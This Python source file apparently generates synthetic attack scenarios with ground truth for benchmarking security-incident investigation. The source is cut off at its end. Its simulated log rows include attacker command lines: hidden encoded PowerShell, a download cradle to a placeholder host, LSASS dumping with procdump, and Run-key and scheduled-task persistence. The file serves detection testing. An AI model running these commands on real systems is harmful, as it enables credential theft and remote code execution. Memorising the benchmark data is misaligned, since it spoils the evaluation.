"""Synthetic multi-stage attack scenarios with complete ground truth.

A scenario is a self-contained bundle: telemetry tables, UEBA and threat-intel
feeds, one incident whose alerts cover every attack stage, and the ground
truth those alerts were cut from.  Attack rows land off-hours, a few per
stage, so they survive aggregation; benign noise is heavy on the victim user
and device during working hours, so aggregation has something to compress.

Generation is a pure function of ``(template, seed)``.
"""

from __future__ import annotations

import json
import logging
import random
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Callable, Mapping, Sequence

from ..errors import RecordError, UnknownTemplate
from ..model import (
    Alert,
    Entity,
    EntityKind,
    Incident,
    Phase,
    Severity,
    dump_incidents,
    format_time,
    iter_jsonl,
    load_incidents,
    normalize_entity,
    parse_time,
    phase_of_technique,
    write_jsonl,
)
from ..store import ColumnSpec, TableSchema, TelemetryStore
from ..timeline import Feeds, FeedRecord, EnrichmentSource

log = logging.getLogger(__name__)

TEMPLATES = ("ransomware", "initial-access", "exfiltration")
DEFAULT_COHORT = (
    "ransomware-01", "ransomware-02", "ransomware-03", "ransomware-04",
    "initial-access-01", "initial-access-02", "initial-access-03",
    "exfiltration-01", "exfiltration-02", "exfiltration-03",
)
LOOKBACK_HOURS = 168

U, D, I, H, E, L, P, C = (
    EntityKind.USER, EntityKind.DEVICE, EntityKind.IP, EntityKind.FILE_HASH,
    EntityKind.EMAIL, EntityKind.URL, EntityKind.PROCESS, EntityKind.CLOUD_RESOURCE,
)


def _cols(*specs: tuple) -> tuple[ColumnSpec, ...]:
    return tuple(ColumnSpec(name, typ, kind) for name, typ, kind in specs)


SCHEMAS: dict[str, TableSchema] = {
    s.name: s
    for s in (
        TableSchema("SignInEvents", "Interactive and non-interactive account sign-ins", _cols(
            ("user", "string", U), ("ip", "string", I), ("device", "string", D),
            ("app", "string", None), ("result", "string", None),
            ("auth_method", "string", None), ("country", "string", None))),
        TableSchema("EmailEvents", "Inbound mail delivery with sender, links and attachments", _cols(
            ("recipient", "string", U), ("sender", "string", E), ("url", "string", L),
            ("attachment_hash", "string", H), ("subject", "string", None), ("verdict", "string", None))),
        TableSchema("ProcessEvents", "Process creation on endpoints", _cols(
            ("device", "string", D), ("user", "string", U), ("process", "string", P),
            ("parent_process", "string", P), ("file_hash", "string", H),
            ("command_line", "string", None), ("integrity", "string", None))),
        TableSchema("NetworkEvents", "Outbound network connections from endpoints", _cols(
            ("device", "string", D), ("remote_ip", "string", I), ("remote_port", "int", None),
            ("protocol", "string", None), ("action", "string", None), ("bytes_sent", "int", None))),
        TableSchema("FileEvents", "File creation, modification and rename on endpoints", _cols(
            ("device", "string", D), ("file_hash", "string", H), ("action", "string", None),
            ("file_name", "string", None), ("folder", "string", None))),
        TableSchema("LogonEvents", "Logons to endpoints, local and remote", _cols(
            ("device", "string", D), ("user", "string", U), ("source_device", "string", D),
            ("logon_type", "string", None), ("result", "string", None))),
        TableSchema("CloudAppEvents", "Activity in SaaS applications", _cols(
            ("user", "string", U), ("ip", "string", I), ("resource", "string", C),
            ("app", "string", None), ("action", "string", None), ("object_count", "int", None))),
    )
}

_ABBR = {
    "SignInEvents": "si", "EmailEvents": "em", "ProcessEvents": "pr", "NetworkEvents": "nw",
    "FileEvents": "fi", "LogonEvents": "lo", "CloudAppEvents": "ca",
}

RELEVANT_TABLES = {
    "ransomware": ("SignInEvents", "EmailEvents", "ProcessEvents", "NetworkEvents", "FileEvents", "LogonEvents"),
    "initial-access": ("SignInEvents", "EmailEvents", "ProcessEvents", "NetworkEvents", "FileEvents", "LogonEvents"),
    "exfiltration": ("SignInEvents", "EmailEvents", "ProcessEvents", "NetworkEvents", "CloudAppEvents", "LogonEvents"),
}

_FIRST = ("avery", "blake", "casey", "devon", "emery", "finley", "harper", "jordan", "kendall", "logan", "morgan", "quinn")
_LAST = ("adams", "brooks", "chen", "diaz", "evans", "foster", "garcia", "hughes", "ito", "kim", "lopez", "novak")
_DOMAINS = ("contoso.com", "fabrikam.com", "northwind.example", "tailspin.example", "woodgrove.example")
_BAD_DOMAINS = ("invoice-portal.example", "secure-docs.example", "m365-verify.example", "payroll-update.example")
_SAAS_IPS = ("13.107.6.152", "13.107.42.14", "52.96.165.18", "52.96.88.40", "20.190.151.8",
             "40.126.32.74", "104.18.32.7", "151.101.1.69", "8.8.8.8", "168.63.129.16")


# ---------------------------------------------------------------------------
# scenario types


@dataclass(frozen=True)
class Stage:
    stage_id: str
    phase: Phase
    techniques: tuple[str, ...]
    title: str
    entities: frozenset[Entity]
    evidence_row_ids: tuple[str, ...]
    baseline_flags: tuple[str, ...] = ()
    severity: Severity = Severity.HIGH

    def to_dict(self) -> dict[str, Any]:
        return {
            "stage_id": self.stage_id,
            "phase": self.phase.value,
            "techniques": list(self.techniques),
            "title": self.title,
            "entities": [e.to_dict() for e in sorted(self.entities)],
            "evidence_row_ids": list(self.evidence_row_ids),
            "baseline_flags": list(self.baseline_flags),
            "severity": self.severity.value,
        }

    @classmethod
    def from_dict(cls, d: Mapping[str, Any]) -> "Stage":
        return cls(
            d["stage_id"], Phase(d["phase"]), tuple(d["techniques"]), d["title"],
            frozenset(Entity.from_dict(e) for e in d["entities"]),
            tuple(d["evidence_row_ids"]), tuple(d.get("baseline_flags", ())), Severity(d.get("severity", "High")),
        )


@dataclass(frozen=True)
class Decoy:
    """Benign row that looks malicious in isolation."""

    row_id: str
    technique: str
    note: str

    def to_dict(self) -> dict[str, str]:
        return {"row_id": self.row_id, "technique": self.technique, "note": self.note}


@dataclass(frozen=True)
class Scenario:
    scenario_id: str
    template: str
    seed: int
    incident: Incident
    tables: Mapping[str, tuple[Mapping[str, Any], ...]]
    ueba: tuple[Mapping[str, Any], ...]
    ti: tuple[Mapping[str, Any], ...]
    ground_truth: tuple[Stage, ...]
    decoys: tuple[Decoy, ...] = ()
    relevant_tables: tuple[str, ...] = ()
    lookback_hours: int = LOOKBACK_HOURS
    fixtures_dir: str | None = None

    @property
    def schemas(self) -> list[TableSchema]:
        return [SCHEMAS[name] for name in self.tables]

    @property
    def pivot_entities(self) -> frozenset[Entity]:
        out: set[Entity] = set()
        for s in self.ground_truth:
            out |= s.entities
        return frozenset(out)

    def stage(self, stage_id: str) -> Stage:
        for s in self.ground_truth:
            if s.stage_id == stage_id:
                return s
        raise KeyError(stage_id)

    def store(self, max_lookback_hours: int = 720) -> TelemetryStore:
        st = TelemetryStore(max_lookback_hours)
        for name, rows in self.tables.items():
            st.register_records(SCHEMAS[name], rows)
        return st

    def feeds(self) -> Feeds:
        return Feeds(
            tuple(FeedRecord.from_dict(EnrichmentSource.UEBA, r) for r in self.ueba),
            tuple(FeedRecord.from_dict(EnrichmentSource.THREAT_INTEL, r) for r in self.ti),
        )

    def truth_dict(self) -> dict[str, Any]:
        return {
            "scenario_id": self.scenario_id,
            "template": self.template,
            "seed": self.seed,
            "relevant_tables": list(self.relevant_tables),
            "lookback_hours": self.lookback_hours,
            "stages": [s.to_dict() for s in self.ground_truth],
            "decoys": [d.to_dict() for d in self.decoys],
        }

    def validate(self) -> list[str]:
        """Scenario invariants; an empty list means the bundle is consistent."""
        problems = []
        ids = {r["row_id"] for rows in self.tables.values() for r in rows}
        for s in self.ground_truth:
            if not s.evidence_row_ids:
                problems.append(f"{s.stage_id}: no evidence rows")
            for rid in s.evidence_row_ids + s.baseline_flags:
                if rid not in ids:
                    problems.append(f"{s.stage_id}: evidence row {rid} missing from telemetry")
            if not set(s.baseline_flags) <= set(s.evidence_row_ids):
                problems.append(f"{s.stage_id}: baseline flags outside stage evidence")
            if phase_of_technique(s.techniques[0]) is not s.phase:
                problems.append(f"{s.stage_id}: phase disagrees with {s.techniques[0]}")
        for d in self.decoys:
            if d.row_id not in ids:
                problems.append(f"decoy {d.row_id} missing from telemetry")
        for a in self.incident.alerts:
            if not any(set(a.techniques) <= set(s.techniques) and a.entities <= s.entities for s in self.ground_truth):
                problems.append(f"alert {a.alert_id} not covered by ground truth")
        for name, rows in self.tables.items():
            if name not in SCHEMAS:
                problems.append(f"unknown table {name}")
        try:
            self.store()
        except Exception as exc:  # noqa: BLE001 - report, don't raise
            problems.append(f"telemetry does not load: {exc}")
        return problems


# ---------------------------------------------------------------------------
# generation


def parse_scenario_name(name: str) -> tuple[str, int]:
    """``"ransomware-01"`` -> ``("ransomware", 1)``."""
    template, sep, num = name.rpartition("-")
    if not sep or template not in TEMPLATES or not num.isdigit():
        raise UnknownTemplate(name)
    return template, int(num)


def scenario_name(template: str, seed: int) -> str:
    return f"{template}-{seed:02d}"


class _Builder:
    def __init__(self, template: str, seed: int):
        self.template = template
        self.seed = seed
        self.sid = scenario_name(template, seed)
        self.rng = random.Random(f"threatgap:{template}:{seed}")
        self.rows: dict[str, list[dict[str, Any]]] = {name: [] for name in SCHEMAS}
        self.counter = {name: 0 for name in SCHEMAS}
        r = self.rng
        self.created = datetime(2025, 3, 3, 9, 30, tzinfo=timezone.utc) + timedelta(days=r.randrange(0, 40))
        self.night1 = (self.created - timedelta(days=2)).replace(hour=0, minute=0)
        self.night2 = (self.created - timedelta(days=1)).replace(hour=0, minute=0)
        self.domain = r.choice(_DOMAINS)
        people = r.sample([f"{f}.{l}" for f in _FIRST for l in _LAST], 9)
        self.user = f"{people[0]}@{self.domain}"
        self.colleagues = [f"{p}@{self.domain}" for p in people[1:8]]
        self.admin = f"it.{people[8]}@{self.domain}"
        self.device = f"wks-{r.randrange(1000, 9999)}"
        self.server = f"srv-{r.choice(['fs', 'app', 'db'])}{r.randrange(10, 99)}"
        self.other_devices = [f"wks-{r.randrange(1000, 9999)}" for _ in range(6)]
        self.attacker_ip = f"203.0.113.{r.randrange(2, 250)}"
        self.c2_ip = f"198.51.100.{r.randrange(2, 250)}"
        self.exfil_ip = f"192.0.2.{r.randrange(2, 250)}"
        bad = r.choice(_BAD_DOMAINS)
        self.sender = f"{r.choice(['billing', 'hr', 'it-support', 'payroll'])}@{bad}"
        self.url = f"https://{bad}/{r.choice(['invoice', 'doc', 'login'])}/{r.getrandbits(32):08x}"
        self.hash = f"{r.getrandbits(256):064x}"
        self.egress = [f"10.{r.randrange(10, 60)}.{r.randrange(0, 255)}.{r.randrange(2, 250)}" for _ in range(3)]

    # -- rows ---------------------------------------------------------------
    def add(self, table: str, ts: datetime, **values: Any) -> str:
        self.counter[table] += 1
        rid = f"{_ABBR[table]}-{self.sid}-{self.counter[table]:05d}"
        rec = {"row_id": rid, "timestamp": format_time(ts)}
        for col in SCHEMAS[table].columns:
            rec[col.name] = values.get(col.name)
        unknown = set(values) - {c.name for c in SCHEMAS[table].columns}
        if unknown:
            raise ValueError(f"{table}: unknown columns {sorted(unknown)}")
        self.rows[table].append(rec)
        return rid

    def work_time(self) -> datetime:
        r = self.rng
        day = self.created - timedelta(days=r.randrange(1, 7))
        return day.replace(hour=r.randrange(8, 17), minute=r.randrange(60), second=r.randrange(60))

    def night(self, base: datetime, hour: int, minute: int) -> datetime:
        return base + timedelta(hours=hour, minutes=minute, seconds=self.rng.randrange(60))

    def pick(self, weighted: Sequence[tuple[Any, float]]) -> Any:
        values, weights = zip(*weighted)
        return self.rng.choices(values, weights=weights, k=1)[0]

    # -- benign background ----------------------------------------------------
    def noise(self) -> None:
        r = self.rng
        me = self.user
        # heavy victim sign-in and network noise: these tables exceed the row budget
        for _ in range(1050 + r.randrange(250)):
            self.add("SignInEvents", self.work_time(), user=me, ip=r.choice(self.egress), device=self.device,
                     app=self.pick([("Outlook", 0.6), ("Teams", 0.25), ("SharePoint", 0.15)]),
                     result=self.pick([("Success", 0.96), ("Failure", 0.04)]),
                     auth_method=self.pick([("Password+MFA", 0.9), ("Token", 0.1)]), country="US")
        for _ in range(1050 + r.randrange(250)):
            self.add("NetworkEvents", self.work_time(), device=self.device, remote_ip=r.choice(_SAAS_IPS),
                     remote_port=self.pick([(443, 0.85), (53, 0.1), (80, 0.05)]),
                     protocol="Tcp", action=self.pick([("ConnectionSuccess", 0.97), ("ConnectionFailed", 0.03)]),
                     bytes_sent=r.randrange(200, 90000))
        procs = [("outlook.exe", "explorer.exe"), ("teams.exe", "explorer.exe"), ("chrome.exe", "explorer.exe"),
                 ("excel.exe", "explorer.exe"), ("onedrive.exe", "explorer.exe")]
        for _ in range(45 + r.randrange(15)):
            p, parent = r.choice(procs)
            self.add("ProcessEvents", self.work_time(), device=self.device, user=me, process=p,
                     parent_process=parent, command_line=f"\"C:\\Program Files\\{p}\"", integrity="Medium")
        for _ in range(25 + r.randrange(10)):
            self.add("FileEvents", self.work_time(), device=self.device,
                     action=self.pick([("FileCreated", 0.5), ("FileModified", 0.5)]),
                     file_name=f"{r.choice(['report', 'notes', 'budget', 'deck'])}_{r.randrange(100)}.{r.choice(['docx', 'xlsx', 'pptx'])}",
                     folder="C:\\Users\\Documents")
        for _ in range(20 + r.randrange(8)):
            self.add("LogonEvents", self.work_time(), device=self.device, user=me, logon_type="Interactive", result="Success")
        for _ in range(28 + r.randrange(10)):
            self.add("EmailEvents", self.work_time(), recipient=me, sender=r.choice(self.colleagues).replace("@", ".mail@"),
                     subject=r.choice(["Weekly sync", "Re: budget", "Lunch?", "Project update", "FYI"]),
                     verdict="Delivered")
        for _ in range(30 + r.randrange(10)):
            self.add("CloudAppEvents", self.work_time(), user=me, ip=r.choice(self.egress),
                     resource=f"sharepoint:/sites/{r.choice(['team', 'finance', 'hr'])}",
                     app="SharePoint Online", action=self.pick([("FileAccessed", 0.8), ("FileModified", 0.2)]),
                     object_count=r.randrange(1, 5))
        # server noise, reached only when the server becomes a pivot
        for _ in range(15 + r.randrange(8)):
            self.add("LogonEvents", self.work_time(), device=self.server, user=self.admin,
                     source_device=self.other_devices[0], logon_type="RemoteInteractive", result="Success")
        for _ in range(15 + r.randrange(8)):
            self.add("ProcessEvents", self.work_time(), device=self.server, user=self.admin,
                     process=r.choice(["sqlservr.exe", "backup.exe", "w3wp.exe"]), parent_process="services.exe",
                     command_line="service host", integrity="System")
        for _ in range(15 + r.randrange(8)):
            self.add("FileEvents", self.work_time(), device=self.server, action="FileModified",
                     file_name=f"db_{r.randrange(100)}.bak", folder="D:\\Backups")
        # unrelated users and devices that no pivot should reach
        for name, n in (("SignInEvents", 300), ("ProcessEvents", 200), ("LogonEvents", 120),
                        ("EmailEvents", 150), ("CloudAppEvents", 150), ("NetworkEvents", 200)):
            for _ in range(n):
                who, dev = r.choice(self.colleagues), r.choice(self.other_devices)
                ts = self.work_time()
                if name == "SignInEvents":
                    self.add(name, ts, user=who, ip=r.choice(self.egress), device=dev, app="Teams",
                             result="Success", auth_method="Password+MFA", country="US")
                elif name == "ProcessEvents":
                    self.add(name, ts, device=dev, user=who, process="chrome.exe", parent_process="explorer.exe",
                             command_line="chrome.exe", integrity="Medium")
                elif name == "LogonEvents":
                    self.add(name, ts, device=dev, user=who, logon_type="Interactive", result="Success")
                elif name == "EmailEvents":
                    self.add(name, ts, recipient=who, sender=f"news@{self.domain}", subject="Newsletter", verdict="Delivered")
                elif name == "CloudAppEvents":
                    self.add(name, ts, user=who, ip=r.choice(self.egress), resource="sharepoint:/sites/team",
                             app="SharePoint Online", action="FileAccessed", object_count=1)
                else:
                    self.add(name, ts, device=dev, remote_ip=r.choice(_SAAS_IPS[:6]), remote_port=443,
                             protocol="Tcp", action="ConnectionSuccess", bytes_sent=r.randrange(200, 5000))

    def decoys(self) -> list[Decoy]:
        t1, t2 = self.work_time(), self.work_time()
        a = self.add("ProcessEvents", t1, device=self.device, user=self.admin, process="nmap.exe",
                     parent_process="cmd.exe", command_line="nmap -sS -p 1-1024 10.0.0.0/24", integrity="High")
        b = self.add("ProcessEvents", t2, device=self.device, user=self.user, process="certutil.exe",
                     parent_process="cmd.exe", command_line="certutil -urlcache -f http://crl.pki.example/root.crl",
                     integrity="Medium")
        return [Decoy(a, "T1046", "scheduled IT inventory scan"), Decoy(b, "T1105", "certificate revocation list refresh")]


def _ents(*pairs: tuple[EntityKind, str]) -> frozenset[Entity]:
    return frozenset(normalize_entity(k, v) for k, v in pairs)


# Each template returns its stages in kill-chain order.  Stage entity sets
# double as alert entity sets; execution and post-compromise stages always
# carry the victim user and device so any held-out phase stays reachable.


def _ransomware(b: _Builder) -> list[Stage]:
    n1, n2 = b.night1, b.night2
    u, d, d2 = b.user, b.device, b.server
    s = []
    r = b.add("EmailEvents", b.night(n1, 1, 5), recipient=u, sender=b.sender, url=b.url,
              subject="Invoice overdue - action required", verdict="Delivered")
    s.append(Stage("IA-1", Phase.INITIAL_ACCESS, ("T1566",), "Phishing email with credential lure",
                   _ents((U, u), (E, b.sender), (L, b.url)), (r,), (r,)))
    r1 = b.add("SignInEvents", b.night(n1, 1, 40), user=u, ip=b.attacker_ip, app="Azure Portal",
               result="Success", auth_method="Password", country="RO")
    r2 = b.add("SignInEvents", b.night(n1, 1, 52), user=u, ip=b.attacker_ip, app="Exchange Online",
               result="Success", auth_method="Password", country="RO")
    s.append(Stage("IA-2", Phase.INITIAL_ACCESS, ("T1078",), "Sign-in with stolen valid credentials",
                   _ents((U, u), (I, b.attacker_ip)), (r1, r2)))
    r1 = b.add("ProcessEvents", b.night(n1, 3, 10), device=d, user=u, process="powershell.exe",
               parent_process="winword.exe", command_line="powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
               integrity="Medium")
    r2 = b.add("ProcessEvents", b.night(n1, 3, 14), device=d, user=u, process="powershell.exe",
               parent_process="powershell.exe", command_line="powershell -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA",
               integrity="Medium")
    s.append(Stage("EX-1", Phase.EXECUTION, ("T1059",), "Encoded PowerShell launched from Office",
                   _ents((U, u), (D, d), (P, "powershell.exe")), (r1, r2), (r1, r2)))
    r = b.add("ProcessEvents", b.night(n1, 3, 30), device=d, user=u, process="schtasks.exe",
              parent_process="powershell.exe",
              command_line="schtasks /create /tn OneDriveSync /tr C:\\Users\\Public\\sync.exe /sc onlogon",
              integrity="Medium")
    s.append(Stage("EX-2", Phase.EXECUTION, ("T1053",), "Scheduled task created for persistence",
                   _ents((U, u), (D, d), (P, "schtasks.exe")), (r,)))
    beacons = tuple(
        b.add("NetworkEvents", b.night(n2, 1, 5 + 10 * k), device=d, remote_ip=b.c2_ip, remote_port=443,
              protocol="Tcp", action="ConnectionSuccess", bytes_sent=310 + k)
        for k in range(3)
    )
    s.append(Stage("PC-1", Phase.POST_COMPROMISE, ("T1071",), "Command-and-control beaconing",
                   _ents((U, u), (D, d), (I, b.c2_ip)), beacons, beacons[:1]))
    r = b.add("LogonEvents", b.night(n2, 2, 20), device=d2, user=u, source_device=d,
              logon_type="RemoteInteractive", result="Success")
    s.append(Stage("PC-2", Phase.POST_COMPROMISE, ("T1021",), "Lateral movement to file server",
                   _ents((U, u), (D, d), (D, d2)), (r,)))
    r0 = b.add("ProcessEvents", b.night(n2, 3, 2), device=d2, user=u, process="locker.exe",
               parent_process="explorer.exe", file_hash=b.hash, command_line="locker.exe --all-drives",
               integrity="High")
    files = tuple(
        b.add("FileEvents", b.night(n2, 3, 10 + k), device=d2, file_hash=b.hash, action="FileRenamed",
              file_name=f"share_{k}.xlsx.locked", folder="D:\\Shares\\Finance")
        for k in range(2)
    )
    s.append(Stage("PC-3", Phase.POST_COMPROMISE, ("T1486",), "Files encrypted on file server",
                   _ents((U, u), (D, d), (D, d2), (H, b.hash), (P, "locker.exe")), (r0,) + files, files))
    return s


def _initial_access(b: _Builder) -> list[Stage]:
    n1, n2 = b.night1, b.night2
    u, d, d2 = b.user, b.device, b.server
    s = []
    r = b.add("EmailEvents", b.night(n1, 0, 45), recipient=u, sender=b.sender, attachment_hash=b.hash,
              subject="Remittance advice attached", verdict="Delivered")
    s.append(Stage("IA-1", Phase.INITIAL_ACCESS, ("T1566",), "Malicious attachment delivered",
                   _ents((U, u), (E, b.sender), (H, b.hash)), (r,), (r,)))
    r1 = b.add("SignInEvents", b.night(n1, 1, 30), user=u, ip=b.attacker_ip, app="VPN Gateway",
               result="Success", auth_method="Password", country="NL")
    r2 = b.add("SignInEvents", b.night(n1, 1, 33), user=u, ip=b.attacker_ip, app="VPN Gateway",
               result="Success", auth_method="Password", country="NL")
    s.append(Stage("IA-2", Phase.INITIAL_ACCESS, ("T1078",), "VPN sign-in with valid credentials",
                   _ents((U, u), (I, b.attacker_ip)), (r1, r2)))
    r = b.add("ProcessEvents", b.night(n1, 3, 5), device=d, user=u, process="remittance.exe",
              parent_process="outlook.exe", file_hash=b.hash, command_line="remittance.exe", integrity="Medium")
    s.append(Stage("EX-1", Phase.EXECUTION, ("T1204",), "User opened malicious attachment",
                   _ents((U, u), (D, d), (H, b.hash)), (r,), (r,)))
    r = b.add("ProcessEvents", b.night(n1, 3, 9), device=d, user=u, process="cmd.exe",
              parent_process="remittance.exe", command_line="cmd.exe /c rundll32 C:\\Users\\Public\\k.dll,Start",
              integrity="Medium")
    s.append(Stage("EX-2", Phase.EXECUTION, ("T1059",), "Command shell spawned by dropped binary",
                   _ents((U, u), (D, d), (P, "cmd.exe")), (r,)))
    r1 = b.add("ProcessEvents", b.night(n2, 1, 15), device=d, user=u, process="reg.exe", parent_process="cmd.exe",
               command_line="reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v k /d rundll32",
               integrity="Medium")
    s.append(Stage("PC-1", Phase.POST_COMPROMISE, ("T1547",), "Run-key autostart persistence",
                   _ents((U, u), (D, d), (P, "reg.exe")), (r1,)))
    r = b.add("ProcessEvents", b.night(n2, 2, 0), device=d, user=u, process="procdump.exe",
              parent_process="cmd.exe", command_line="procdump.exe -ma lsass.exe C:\\Users\\Public\\l.dmp",
              integrity="High")
    s.append(Stage("PC-2", Phase.POST_COMPROMISE, ("T1003",), "LSASS memory dumped",
                   _ents((U, u), (D, d), (P, "procdump.exe")), (r,), (r,)))
    r1 = b.add("LogonEvents", b.night(n2, 4, 10), device=d2, user=u, source_device=d,
               logon_type="Network", result="Success")
    r2 = b.add("FileEvents", b.night(n2, 4, 12), device=d2, file_hash=b.hash, action="FileCreated",
               file_name="remittance.exe", folder="C:\\Windows\\Temp")
    s.append(Stage("PC-3", Phase.POST_COMPROMISE, ("T1021",), "Payload copied to server over admin share",
                   _ents((U, u), (D, d), (D, d2)), (r1, r2)))
    return s


def _exfiltration(b: _Builder) -> list[Stage]:
    n1, n2 = b.night1, b.night2
    u, d = b.user, b.device
    mailbox = f"mailbox:{u}"
    s = []
    r = b.add("EmailEvents", b.night(n1, 0, 20), recipient=u, sender=b.sender, url=b.url,
              subject="Your password expires today", verdict="Delivered")
    s.append(Stage("IA-1", Phase.INITIAL_ACCESS, ("T1566",), "Credential phishing link delivered",
                   _ents((U, u), (E, b.sender), (L, b.url)), (r,), (r,)))
    r1 = b.add("SignInEvents", b.night(n1, 1, 10), user=u, ip=b.attacker_ip, app="Exchange Online",
               result="Success", auth_method="Password", country="BR")
    r2 = b.add("SignInEvents", b.night(n1, 1, 18), user=u, ip=b.attacker_ip, app="SharePoint",
               result="Success", auth_method="Password", country="BR")
    s.append(Stage("IA-2", Phase.INITIAL_ACCESS, ("T1078",), "Cloud sign-in from attacker infrastructure",
                   _ents((U, u), (I, b.attacker_ip)), (r1, r2)))
    r1 = b.add("ProcessEvents", b.night(n1, 2, 40), device=d, user=u, process="powershell.exe",
               parent_process="explorer.exe",
               command_line="powershell -c iwr https://paste.example/r -OutFile $env:TEMP\\r.ps1",
               integrity="Medium")
    s.append(Stage("EX-1", Phase.EXECUTION, ("T1059",), "PowerShell download cradle",
                   _ents((U, u), (D, d), (P, "powershell.exe")), (r1,), (r1,)))
    r = b.add("ProcessEvents", b.night(n1, 2, 55), device=d, user=u, process="wmic.exe",
              parent_process="powershell.exe", command_line="wmic process call create \"rclone.exe copy\"",
              integrity="Medium")
    s.append(Stage("EX-2", Phase.EXECUTION, ("T1047",), "WMI used to launch tooling",
                   _ents((U, u), (D, d), (P, "wmic.exe")), (r,)))
    r1 = b.add("CloudAppEvents", b.night(n2, 1, 5), user=u, ip=b.attacker_ip, resource=mailbox,
               app="Exchange Online", action="MailItemsAccessed", object_count=850)
    r2 = b.add("CloudAppEvents", b.night(n2, 1, 25), user=u, ip=b.attacker_ip, resource=mailbox,
               app="Exchange Online", action="MailItemsAccessed", object_count=920)
    s.append(Stage("PC-1", Phase.POST_COMPROMISE, ("T1114",), "Bulk mailbox access",
                   _ents((U, u), (D, d), (C, mailbox)), (r1, r2)))
    r = b.add("CloudAppEvents", b.night(n2, 1, 40), user=u, ip=b.attacker_ip, resource=mailbox,
              app="Exchange Online", action="New-InboxRule", object_count=1)
    s.append(Stage("PC-2", Phase.POST_COMPROMISE, ("T1098",), "Inbox forwarding rule created",
                   _ents((U, u), (D, d), (C, mailbox)), (r,)))
    r1 = b.add("NetworkEvents", b.night(n2, 3, 0), device=d, remote_ip=b.exfil_ip, remote_port=443,
               protocol="Tcp", action="ConnectionSuccess", bytes_sent=4_800_000_000)
    r2 = b.add("NetworkEvents", b.night(n2, 3, 40), device=d, remote_ip=b.exfil_ip, remote_port=443,
               protocol="Tcp", action="ConnectionSuccess", bytes_sent=3_100_000_000)
    s.append(Stage("PC-3", Phase.POST_COMPROMISE, ("T1567",), "Large upload to file-sharing service",
                   _ents((U, u), (D, d), (I, b.exfil_ip)), (r1, r2), (r1,)))
    return s


_TEMPLATE_FNS: dict[str, Callable[[_Builder], list[Stage]]] = {
    "ransomware": _ransomware,
    "initial-access": _initial_access,
    "exfiltration": _exfiltration,
}


def _alerts(b: _Builder, stages: Sequence[Stage]) -> list[Alert]:
    index = {r["row_id"]: r for rows in b.rows.values() for r in rows}
    alerts = []
    for k, st in enumerate(stages, start=1):
        first = min(parse_time(index[rid]["timestamp"]) for rid in st.evidence_row_ids)
        alerts.append(
            Alert(
                alert_id=f"{b.sid}-a{k}",
                detector_id=f"det-{st.techniques[0].lower()}",
                title=st.title,
                severity=st.severity,
                techniques=st.techniques,
                phase=st.phase,
                entities=st.entities,
                timestamp=first + timedelta(minutes=5),
            )
        )
    return alerts


def _feeds(b: _Builder) -> tuple[list[dict], list[dict]]:
    n1 = b.night1
    ueba = [
        {"kind": "User", "value": b.user, "label": "Sign-in from unfamiliar location and off-hours activity",
         "score": 0.81, "window_start": format_time(n1), "window_end": format_time(b.created)},
        {"kind": "Device", "value": b.server, "label": "First remote logon from this workstation",
         "score": 0.68, "window_start": format_time(n1), "window_end": format_time(b.created)},
        {"kind": "User", "value": b.colleagues[0], "label": "Unusual volume of file access",
         "score": 0.55, "window_start": format_time(n1), "window_end": format_time(b.created)},
    ]
    ti = [
        {"kind": "Ip", "value": b.c2_ip, "label": "Known command-and-control server", "score": 0.92},
        {"kind": "Ip", "value": b.attacker_ip, "label": "Anonymizing VPN exit node", "score": 0.75},
        {"kind": "Ip", "value": b.exfil_ip, "label": "File-sharing service abused for exfiltration", "score": 0.64},
        {"kind": "Ip", "value": "8.8.8.8", "label": "Public DNS resolver", "score": 0.02},
    ]
    return ueba, ti


def generate_scenario(template: str, seed: int) -> Scenario:
    """Build the scenario for ``(template, seed)``; identical inputs give identical output."""
    if template not in _TEMPLATE_FNS:
        raise UnknownTemplate(template)
    b = _Builder(template, seed)
    b.noise()
    decoys = b.decoys()
    stages = _TEMPLATE_FNS[template](b)
    alerts = _alerts(b, stages)
    incident = Incident(
        incident_id=f"inc-{b.sid}",
        alerts=tuple(alerts),
        threat_type=template,
        priority_score=round(b.rng.uniform(0.6, 0.9), 2),
        created_at=b.created,
    )
    ueba, ti = _feeds(b)
    return Scenario(
        scenario_id=b.sid,
        template=template,
        seed=seed,
        incident=incident,
        tables={name: tuple(rows) for name, rows in b.rows.items()},
        ueba=tuple(ueba),
        ti=tuple(ti),
        ground_truth=tuple(stages),
        decoys=tuple(decoys),
        relevant_tables=RELEVANT_TABLES[template],
    )


def scenario_from_name(name: str) -> Scenario:
    return generate_scenario(*parse_scenario_name(name))


# ---------------------------------------------------------------------------
# bundles on disk


def write_bundle(scenario: Scenario, directory: str | Path) -> Path:
    """Write a self-contained bundle directory; returns its path."""
    root = Path(directory)
    (root / "tables").mkdir(parents=True, exist_ok=True)
    manifest = {"tables": []}
    for name, rows in scenario.tables.items():
        rel = f"tables/{name}.jsonl"
        write_jsonl(root / rel, rows)
        manifest["tables"].append({**SCHEMAS[name].to_dict(), "data": rel})
    (root / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    dump_incidents(root / "incident.jsonl", [scenario.incident])
    write_jsonl(root / "ueba.jsonl", scenario.ueba)
    write_jsonl(root / "ti.jsonl", scenario.ti)
    (root / "ground_truth.json").write_text(json.dumps(scenario.truth_dict(), indent=2) + "\n", encoding="utf-8")
    return root


def load_bundle(directory: str | Path) -> Scenario:
    root = Path(directory)
    try:
        truth = json.loads((root / "ground_truth.json").read_text(encoding="utf-8"))
        manifest = json.loads((root / "manifest.json").read_text(encoding="utf-8"))
        incidents = load_incidents(root / "incident.jsonl")
    except (OSError, json.JSONDecodeError) as exc:
        raise RecordError(f"bundle {root} is unreadable: {exc}") from exc
    tables = {
        entry["name"]: tuple(rec for _, rec in iter_jsonl(root / entry["data"])) for entry in manifest["tables"]
    }
    fixtures = root / "fixtures"
    return Scenario(
        scenario_id=truth["scenario_id"],
        template=truth["template"],
        seed=int(truth["seed"]),
        incident=incidents[0],
        tables=tables,
        ueba=tuple(rec for _, rec in iter_jsonl(root / "ueba.jsonl")),
        ti=tuple(rec for _, rec in iter_jsonl(root / "ti.jsonl")),
        ground_truth=tuple(Stage.from_dict(s) for s in truth["stages"]),
        decoys=tuple(Decoy(**d) for d in truth.get("decoys", ())),
        relevant_tables=tuple(truth.get("relevant_tables", ())),
